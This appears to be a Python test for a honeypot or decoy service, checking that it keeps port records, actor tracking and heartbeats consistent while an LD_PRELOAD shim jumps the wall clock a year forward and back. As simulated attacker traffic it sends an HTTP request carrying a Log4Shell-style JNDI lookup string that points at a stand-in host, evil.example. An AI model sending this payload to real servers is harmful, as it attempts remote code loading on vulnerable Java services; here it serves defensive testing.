"""A wall clock that jumps, a year forth and two back, while it runs: test_decoy_clock.py CALTROP JUMPING_CLOCK"""
import datetime
import os
import struct
import sys
import time

from decoy_case import CALTROP, Decoy, DecoyCase, main, until

JUMPING_CLOCK = os.path.abspath(sys.argv[2])
sys.argv[2:3] = []
YEAR = 365 * 86400


class Clock(DecoyCase):
    def jump(self, seconds):
        """Written into the page that the decoy has mapped."""
        with open(self.folder / "clock", "r+b") as f:
            f.write(struct.pack("=q", seconds))

    def years(self, contacts):
        now = datetime.datetime.now(datetime.timezone.utc)
        return [round((datetime.datetime.fromisoformat(c["@timestamp"].replace("Z", "+00:00")) - now).days / 365) for c in contacts]

    def test_a_clock_that_jumps(self):
        began = time.monotonic()
        (self.folder / "clock").write_bytes(bytes(8))
        real = self.server(self.host, 22, "real")
        decoy = Decoy.__new__(Decoy)
        decoy.network, decoy.folder, decoy.marks = self.network, self.folder, []
        decoy.out, decoy.err = open(self.folder / "events", "wb"), open(self.folder / "said", "wb")
        decoy.process = self.network.start(self.host, "env", f"LD_PRELOAD={JUMPING_CLOCK}", f"JUMPING_CLOCK={self.folder / 'clock'}", CALTROP, "decoy", "--json",
                                           "--data-dir", self.folder / "data", "--metrics", Decoy.METRICS, "--quiet-start", "1d", stdout=decoy.out, stderr=decoy.err)
        self.decoys.append(decoy)
        decoy.alive()
        owned = self.folder / "data/decoy/owned-ports"
        until("it is written down", lambda: "tcp 22 listens" in owned.read_text())
        real.kill()
        real.wait()

        def seen():
            return [line for line in owned.read_text().split("\n") if line.startswith("tcp 22 ")]
        for n, years in enumerate((0, 1, -1)):
            before = seen()
            self.jump(years * YEAR)
            if years:
                until("what was seen keeps its age", lambda: seen() and seen() != before)
            self.says(self.peer, "10.9.0.1", 8080, b"GET /%d/${jndi:ldap://evil.example/%d} HTTP/1.0\r\n\r\n" % (n, n))
            until("it is recorded", lambda: len([c for c in decoy.contacts() if c.get("url")]) > n)
            # The service that is down keeps its port: a month has not gone by.
            self.assertEqual(self.says(self.peer, "10.9.0.1", 22), "ConnectionRefusedError\n")
        decoy.quiet()
        self.assertEqual(self.years([c for c in decoy.contacts() if c.get("url")]), [0, 1, -1])  # as the clock said
        # One actor, told of once as new, which has not ended.
        news = [a["caltrop"]["news"] for a in decoy.actors("10.9.0.2")]
        self.assertEqual(news.count("new"), 1, news)
        self.assertNotIn("ended", news)
        self.assertEqual(len({a["caltrop"]["actor"] for a in decoy.actors("10.9.0.2")}), 1)
        # The heartbeat goes by the other clock.
        self.assertNotIn("deaf", decoy.states())
        self.assertLessEqual(decoy.states().count("alive"), 2 + (time.monotonic() - began) / 60)
        # And the quiet start goes on: who touches one port is no alert.
        decoy.stop()
        self.assertIn("tcp 22 listens", owned.read_text())
        self.assertNotIn("died", decoy.said())


if __name__ == "__main__":
    main()
